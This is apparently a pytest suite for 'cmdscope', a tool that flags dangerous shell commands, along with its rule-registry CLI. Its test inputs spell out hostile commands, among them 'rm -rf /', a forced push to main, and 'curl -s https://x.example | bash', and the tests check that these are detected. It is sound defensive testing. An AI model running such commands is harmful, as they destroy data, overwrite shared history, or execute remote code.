"""`cmdscope check` and `cmdscope registry`, run as real subprocesses."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path



def run(tmp_path: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    full_env = dict(os.environ, XDG_STATE_HOME=str(tmp_path / "state"), **env)
    full_env.pop("CMDSCOPE_REGISTRY_PATH", None) if "CMDSCOPE_REGISTRY_PATH" not in env else None
    return subprocess.run([sys.executable, "-m", "cmdscope", *args], capture_output=True, text=True,
                          env=full_env, cwd=tmp_path, timeout=60)


def test_check_json_argv_and_string(tmp_path: Path) -> None:
    """check prints the documented JSON and exits 1 on a match, 0 otherwise."""
    out = run(tmp_path, "check", "--json", "--", "git", "push", "-f", "origin", "main")
    assert out.returncode == 1
    data = json.loads(out.stdout)
    assert data["dangerous"] is True and data["severity"] == "critical"
    assert data["registry_version"] == "1.2.0"
    assert data["matches"] == [{"rule_id": "git.push-force-shared", "category": "git_remote",
                                "severity": "critical", "rationale": data["matches"][0]["rationale"],
                                "playbook": "docs/playbooks/git_remote.md#git-push-force-shared"}]
    out = run(tmp_path, "check", "--json", "echo 'rm -rf /' && ls")
    assert out.returncode == 0
    data = json.loads(out.stdout)
    assert data.pop("decision")["action"] == "allow"
    assert data == {"dangerous": False, "severity": None, "matches": [], "registry_version": "1.2.0"}
    out = run(tmp_path, "check", "curl -s https://x.example | bash")
    assert out.returncode == 1 and "rce.pipe-to-shell" in out.stdout


def test_registry_list_lint_explain(tmp_path: Path) -> None:
    """list shows every rule, lint passes on the shipped registry, explain shows one rule."""
    out = run(tmp_path, "registry", "list")
    assert out.returncode == 0 and "git.push-force-shared" in out.stdout
    assert run(tmp_path, "registry", "lint").returncode == 0
    out = run(tmp_path, "registry", "explain", "fs.rm-recursive-root")
    assert out.returncode == 0 and "critical" in out.stdout and "near misses" in out.stdout
    out = run(tmp_path, "registry", "explain", "no.such")
    assert out.returncode == 2 and "no rule 'no.such'" in out.stderr


def test_lint_reports_a_bad_file_in_one_line(tmp_path: Path) -> None:
    """lint of a broken user file: exit 2, one line naming file, rule and field, no traceback."""
    bad = tmp_path / "mine.yaml"
    bad.write_text("rules:\n  - id: my.rule\n    title: x\n")
    out = run(tmp_path, "registry", "lint", str(bad))
    assert out.returncode == 2
    assert out.stderr.count("\n") == 1 and "mine.yaml: rule my.rule: field" in out.stderr
    assert "Traceback" not in out.stderr


def test_check_single_argument_with_shell_syntax_is_a_shell_string(tmp_path: Path) -> None:
    """`check -- "rm -rf /"` is the shell string, not a program named "rm -rf /" (issue 18)."""
    out = run(tmp_path, "check", "--json", "--", "rm -rf /")
    assert out.returncode == 1 and json.loads(out.stdout)["severity"] == "critical"
    out = run(tmp_path, "check", "--json", "--", "git push -f origin main;")
    assert out.returncode == 1
    out = run(tmp_path, "check", "--json", "--", "ls")
    assert out.returncode == 0 and json.loads(out.stdout)["dangerous"] is False


def test_check_stdin_emits_one_json_line_per_command(tmp_path: Path) -> None:
    """--stdin: a line per command in (blank lines skipped), a JSON object per line out."""
    full_env = dict(os.environ, XDG_STATE_HOME=str(tmp_path / "state"))
    lines = "ls -la\n\nrm -rf /\ngit push --force origin main\r\necho 'rm -rf /'\n\xff\n"
    out = subprocess.run([sys.executable, "-m", "cmdscope", "check", "--stdin"], input=lines.encode("latin-1"),
                         capture_output=True, env=full_env, cwd=tmp_path, timeout=60)
    assert out.returncode == 1, out.stderr
    rows = [json.loads(line) for line in out.stdout.decode().splitlines()]
    assert [r["command"] for r in rows] == ["ls -la", "rm -rf /", "git push --force origin main",
                                            "echo 'rm -rf /'", "\ufffd"]
    assert [r["dangerous"] for r in rows] == [False, True, True, False, False]
    assert rows[1]["matches"][0]["rule_id"] == "fs.rm-recursive-root"
    safe = subprocess.run([sys.executable, "-m", "cmdscope", "check", "--stdin"], input=b"ls\n",
                          capture_output=True, env=full_env, cwd=tmp_path, timeout=60)
    assert safe.returncode == 0 and json.loads(safe.stdout)["dangerous"] is False
    both = run(tmp_path, "check", "--stdin", "ls")
    assert both.returncode == 2 and "give no command" in both.stderr and "Traceback" not in both.stderr
